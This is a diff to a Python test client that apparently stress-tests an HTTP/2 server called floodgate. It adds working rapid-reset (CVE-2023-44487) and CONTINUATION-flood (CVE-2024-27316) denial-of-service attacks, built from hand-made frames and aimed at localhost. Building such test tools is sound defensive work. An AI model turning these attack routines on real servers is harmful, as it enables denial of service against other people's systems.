@@ -1,10 +1,16 @@
 """An HTTP/2 client that misbehaves on purpose, for floodgate's attack tests (Python `h2`).
 
-usage: h2_client.py MODE PORT [PATH] [STREAMS] [SECONDS]
+usage: h2_client.py MODE PORT [PATH] [STREAMS] [SECONDS] [BATCH]
   stall    open STREAMS GETs of PATH with a 1-byte stream window and never open it
   trickle  open STREAMS GETs of PATH, opening each window by 16 KiB every 100 ms
   silent   send the preface and SETTINGS, then nothing
   idle     one GET of PATH read to its end, then nothing
+  rapid-reset         open GETs of PATH and RST_STREAM each at once (CVE-2023-44487), in
+                      writes of BATCH pairs (default 100), up to STREAMS streams (0: no bound)
+                      or until the server ends it
+  continuation        one HEADERS frame without END_HEADERS, then CONTINUATION frames full of
+                      header fields, never ending the block (CVE-2024-27316 and kin)
+  continuation-empty  the same with empty CONTINUATION frames
 Prints one JSON line: per-stream outcome counts, GOAWAY and close times (seconds).
 Bounded: gives up after SECONDS (default 20).
 """
@@ -18,6 +24,8 @@ import h2.connection
 import h2.events
 import h2.exceptions
 import h2.settings
+import hpack
+import struct
 
 
 def main():
@@ -25,6 +33,12 @@ def main():
     path = sys.argv[3] if len(sys.argv) > 3 else "/"
     streams = int(sys.argv[4]) if len(sys.argv) > 4 else 1
     limit = float(sys.argv[5]) if len(sys.argv) > 5 else 20.0
+    batch = int(sys.argv[6]) if len(sys.argv) > 6 else 100
+
+    if mode == "rapid-reset":
+        return rapid_reset(port, path, streams, limit, batch)
+    if mode.startswith("continuation"):
+        return continuation(port, path, mode == "continuation-empty", limit)
 
     sock = socket.create_connection(("127.0.0.1", port))
     sock.settimeout(0.1)
@@ -96,6 +110,178 @@ def main():
             break
     result["elapsed"] = round(time.monotonic() - started, 3)
     print(json.dumps(result))
+
+
+def frame(kind, flags, stream_id, payload=b""):
+    """One HTTP/2 frame (RFC 9113 4.1)."""
+    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream_id) + payload
+
+
+class Frames:
+    """The server's frames, parsed by hand: after frames h2 would refuse to send, h2's own
+    state machine cannot follow the connection any more."""
+
+    def __init__(self):
+        self.buffer = b""
+        self.goaway = None
+        self.goaway_code = None
+        self.last_stream = None
+        self.resets = 0
+        self.headers = 0
+        self.closed = None
+
+    def feed(self, data, elapsed):
+        self.buffer += data
+        while len(self.buffer) >= 9:
+            length = int.from_bytes(self.buffer[0:3], "big")
+            if len(self.buffer) < 9 + length:
+                break
+            kind = self.buffer[3]
+            payload = self.buffer[9 : 9 + length]
+            self.buffer = self.buffer[9 + length :]
+            if kind == 0x7 and self.goaway is None:  # GOAWAY
+                self.goaway = elapsed
+                self.last_stream = int.from_bytes(payload[0:4], "big") & 0x7FFFFFFF
+                self.goaway_code = int.from_bytes(payload[4:8], "big")
+            elif kind == 0x3:  # RST_STREAM
+                self.resets += 1
+            elif kind == 0x1:  # HEADERS
+                self.headers += 1
+
+    def read(self, sock, started):
+        """Reads what is there (0.1 s at most); False once the server closed."""
+        try:
+            data = sock.recv(1 << 20)
+        except socket.timeout:
+            return True
+        except (ConnectionError, OSError):
+            data = b""
+        elapsed = round(time.monotonic() - started, 3)
+        if not data:
+            self.closed = elapsed
+            return False
+        self.feed(data, elapsed)
+        return True
+
+    def result(self, started, **extra):
+        return {
+            "goaway": self.goaway,
+            "goaway_code": self.goaway_code,
+            "last_stream": self.last_stream,
+            "resets_received": self.resets,
+            "headers_received": self.headers,
+            "closed": self.closed,
+            "elapsed": round(time.monotonic() - started, 3),
+            **extra,
+        }
+
+
+PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
+
+
+def opened(port):
+    """A connection past the preface: our SETTINGS sent, the server's acknowledged."""
+    sock = socket.create_connection(("127.0.0.1", port))
+    sock.settimeout(0.1)
+    sock.sendall(PREFACE + frame(0x4, 0, 0) + frame(0x4, 0x1, 0))
+    return sock
+
+
+def send(sock, data, deadline):
+    """Writes `data` before `deadline` (monotonic): True when written; False when the server
+    closed, or stopped reading until the deadline."""
+    sock.settimeout(max(0.1, deadline - time.monotonic()))
+    try:
+        sock.sendall(data)
+        return True
+    except (ConnectionError, OSError):
+        return False
+    finally:
+        sock.settimeout(0.1)
+
+
+def rapid_reset(port, path, streams, limit, batch_size):
+    """HEADERS (END_STREAM) then RST_STREAM (CANCEL) on each new stream, `batch_size` pairs per
+    write."""
+    sock = opened(port)
+    started = time.monotonic()
+    frames = Frames()
+    encoder = hpack.Encoder()
+    block = encoder.encode([(":method", "GET"), (":scheme", "http"), (":authority", "127.0.0.1"), (":path", path)])
+    stream_id = 1
+    sent = 0
+    while time.monotonic() - started < limit and (streams == 0 or sent < streams):
+        batch = b""
+        for _ in range(batch_size):
+            # The same header block each time: the encoder's dynamic table is not used twice.
+            batch += frame(0x1, 0x1 | 0x4, stream_id, block) + frame(0x3, 0, stream_id, struct.pack(">I", 0x8))
+            stream_id += 2
+            sent += 1
+        if not send(sock, batch, started + limit):
+            if time.monotonic() < started + limit:  # not merely blocked until the end
+                frames.closed = round(time.monotonic() - started, 3)
+            break
+        sock.setblocking(False)
+        try:
+            data = sock.recv(1 << 20)
+            if data:
+                frames.feed(data, round(time.monotonic() - started, 3))
+            else:
+                frames.closed = round(time.monotonic() - started, 3)
+                break
+        except BlockingIOError:
+            pass
+        except (ConnectionError, OSError):
+            frames.closed = round(time.monotonic() - started, 3)
+            break
+        finally:
+            sock.settimeout(0.1)
+        if frames.goaway is not None:
+            break
+    # Wait (bounded) for the close after a GOAWAY, or for whatever the server still says.
+    while frames.closed is None and time.monotonic() - started < limit:
+        if not frames.read(sock, started):
+            break
+    print(json.dumps(frames.result(started, sent=sent)))
+
+
+def continuation(port, path, empty, limit):
+    """A header block that never ends: HEADERS without END_HEADERS, then CONTINUATION frames."""
+    sock = opened(port)
+    started = time.monotonic()
+    frames = Frames()
+    block = hpack.Encoder().encode([(":method", "GET"), (":scheme", "http"), (":authority", "127.0.0.1"), (":path", path)])
+    # Literal header fields without indexing, new name: x-a: 100 bytes; 150 of them per frame.
+    field = b"\x00\x03x-a\x64" + b"a" * 100
+    filler = b"" if empty else field * 150
+    sent_frames = 0
+    sent_bytes = 0
+    ok = send(sock, frame(0x1, 0x1, 1, block), started + limit)  # END_STREAM, no END_HEADERS
+    while ok and time.monotonic() - started < limit:
+        batch = frame(0x9, 0, 1, filler) * (4 if not empty else 1000)
+        ok = send(sock, batch, started + limit)
+        if ok:
+            sent_frames += 4 if not empty else 1000
+            sent_bytes += len(batch)
+        sock.setblocking(False)
+        try:
+            data = sock.recv(1 << 20)
+            if data:
+                frames.feed(data, round(time.monotonic() - started, 3))
+            else:
+                ok = False
+        except BlockingIOError:
+            pass
+        except (ConnectionError, OSError):
+            ok = False
+        finally:
+            sock.settimeout(0.1)
+        if not ok and time.monotonic() < started + limit:
+            frames.closed = round(time.monotonic() - started, 3)
+    while frames.closed is None and time.monotonic() - started < limit:
+        if not frames.read(sock, started):
+            break
+    print(json.dumps(frames.result(started, sent_frames=sent_frames, sent_bytes=sent_bytes)))
 
 
 if __name__ == "__main__":
